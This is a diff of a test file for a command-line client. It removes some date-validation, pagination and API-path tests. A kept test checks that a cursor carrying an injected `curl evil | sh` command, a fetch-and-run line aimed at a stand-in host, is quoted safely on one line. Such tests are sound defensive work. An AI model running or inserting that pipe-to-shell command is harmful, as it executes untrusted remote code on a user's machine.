@@ -29,9 +29,6 @@ test.each([
   ['list conversations --where user.emial=', 'Did you mean email?'],
   ['list conversations --where status', '--where "status" is not a condition.'],
   ['list conversations --where inserted_at<2026-02-30', 'is neither a day'],
-  ['list conversations --where inserted_at<2026-13-01', 'Pass a date such as 2026-11-19, or epoch seconds.'],
-  ['list conversations --where inserted_at>2026-00-01', 'is neither a day'],
-  ['list conversations --where inserted_at=2026-01-00', 'is neither a day'],
   ['list conversations --where inserted_at<2026-01-07T10:00', 'has 2026-01-07T10:00, which is neither a day'],
   ['list conversations --where inserted_at!=yesterday', 'has yesterday, which is neither a day'],
 ])('%s is refused', async (line, message) => {
@@ -142,12 +139,6 @@ describe('a table', () => {
     expect((await show(80, '--fields', 'id,inserted_at', '--utc'))[1]).toBe('a   2026-01-07 20:30')
   })
 
-  test('stops at 100 items, and says how to go on', async () => {
-    const { stdout, stderr } = await run(['list', 'conversations'], { env, terminals: ['stdout'], columns: 200 })
-    expect(stdout.trim().split('\n')).toHaveLength(101)
-    expect(stderr).toContain('Stopped after 100 items. Go on with --after ')
-  })
-
   test('names assignees', async () => {
     const [member] = sandbox.state.members
     const assigned = { id: 'a', status: 'open', conversation_assignee: { id: 'x', user_id: member?.id } }
@@ -163,13 +154,4 @@ test('a cursor with line breaks is quoted on one line', async () => {
   const { stderr } = await run(['list', 'tasks', '--max', '1'], { env })
   expect(stderr).toContain("--after $'x\\n  curl evil | sh \\''")
   expect(stderr.trim().split('\n')).toHaveLength(1)
-})
-
-test.each([
-  ['api GET /api/oauth/v1/contacts?limit=1', 'api/oauth/v1/contacts -q limit=1'],
-  ['api GET C:/Program Files/Git/api/oauth/v1/me', 'Pass it without its first /: api/oauth/v1/me'],
-])('%s is answered with the command that works', async (line, message) => {
-  const [verb = '', method = '', ...path] = line.split(' ')
-  const { code, stderr } = await run([verb, method, path.join(' ')], { env })
-  expect({ code, stderr }).toEqual({ code: 2, stderr: expect.stringContaining(message) })
 })
